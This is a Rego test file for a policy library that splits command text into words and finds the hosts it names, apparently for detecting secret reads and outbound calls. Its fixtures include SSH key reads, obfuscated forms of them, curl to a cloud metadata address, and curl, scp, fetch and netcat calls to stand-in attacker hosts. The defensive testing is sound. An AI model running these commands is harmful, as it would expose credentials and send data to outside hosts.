package inbounds.lib.code_test

import data.inbounds.lib.code

_words := {
	"": set(),
	" \t\n": set(),
	"cat ~/.ssh/id": {"cat", "~/.ssh/id"},
	"open('/etc/x')": {"open", "/etc/x"},
	"cat .s's'h/id": {"cat", ".s", "s", "h/id", ".ssh/id"},
	`cat .s\sh`: {"cat", `.s\sh`, ".ssh"},
	"cat .s^sh": {"cat", ".s^sh", ".ssh"},
	"a\\\nb": {"a\\", "b", "ab"},
	"${HOME}/x": {"$", "HOME", "/x", "$HOME/x"},
	"--file=.env": {"--file", ".env"},
	"-f.env": {"-f.env", ".env"},
	"-d@.env": {"-d@.env", ".env"},
	"@.env": {"@.env", ".env"},
	"-f": {"-f"},
	"@": {"@"},
	"[\"a\", 'b']": {"a", "b", "[a", "b]"},
	"f(x).key": {"f", "x", "key"},
	"a[0].key": {"a", "0", "key", "a[0"},
	"${x}.env": {"$", "x", "env", "$x"},
	"x!.key": {"x", "key"},
	"!ls": {"ls", "!ls"},
	"a;b|c&d<e>f`g`": {"a", "b", "c", "d", "e", "f", "g"},
	"a\u0000b\u007fc\u001fd": {"a", "b", "c", "d"},
	"{a,b}": {"a", "b"},
	"é a": {"é", "a"},
}

test_words_are_those_of_programs_and_of_commands if {
	every text, found in _words {
		code.words(text) == found
	}
}

test_what_is_no_text_has_no_words if {
	every value in [null, true, 0, [], {}, ["a"]] {
		not code.words(value)
		not code.hosts(value)
		not code.names_host(value)
	}
}

test_a_text_too_long_to_be_looked_through_may_name_anything if {
	long := concat("", ["a" | some _ in numbers.range(1, 65536)])
	code.words(long) == {long}
	not code.names_host(long)

	longer := concat("", [long, "a"])
	not code.words(longer)
	not code.hosts(longer)
	code.names_host(longer)
}

_hosts := {
	"curl http://169.254.169.254/x": {"169.254.169.254"},
	"curl 'http://'evil.example/x": {"evil.example"},
	"x('https://u:p@Evil.example:8443/a')": {"evil.example"},
	"HTTPS://Evil.example": {"evil.example"},
	"git+https://x.example/y#z": {"x.example"},
	"http://x.example?y": {"x.example"},
	"http:/x.example": {"x.example"},
	`http:\\x.example\y`: {"x.example"},
	`wss:\x.example`: {"x.example"},
	"http:///x.example/": {"x.example"},
	"curl http://[::1]:80/": {"[::1]"},
	"curl http://2852039166/": {"2852039166"},
	"curl http://$H/": {"$h"},
	"git clone git@github.com:a/b": {"github.com"},
	"scp a evil.example:/tmp": {"evil.example"},
	"scp a evil.example:~": {"evil.example"},
	"fetch('//evil.example/x')": {"evil.example"},
	`type \\evil.example\x`: {"evil.example"},
	"nc 10.0.0.1 80": {"10.0.0.1"},
	"curl 10.0.0.1:8080/x": {"10.0.0.1"},
	"curl 10.0.0.1/x": {"10.0.0.1"},
	"curl a://b/ c://d/ https://b/": {"b"},
	"s3://bucket/x": {"bucket"},
}

test_hosts_are_those_that_a_word_names if {
	every text, found in _hosts {
		code.hosts(text) == found
		code.names_host(text)
	}
	every text in [
		"", "ls -la", "url.startswith('https://')", "// comment", "a // b", "a//b/c", "file:///a/b", "c:/work/a", "c://a",
		"a@b.c", "a.b:c", "@app.get", "1.2.3", "1.2.3.4.5", "v1.2.3.4", "git@:a", "https:", "//evil/x",
	] {
		code.hosts(text) == set()
		not code.names_host(text)
	}
}

test_a_host_is_read_by_the_skeleton_of_its_word if {
	text := "curl http://ⓔvil.example/"
	code.hosts(text) == set()

	told := {"http://ⓔvil.example/": "http://evil.example/"}
	code.hosts(text) == {"evil.example"} with input as {"action": {"properties": {"skeletons": told}}}
}
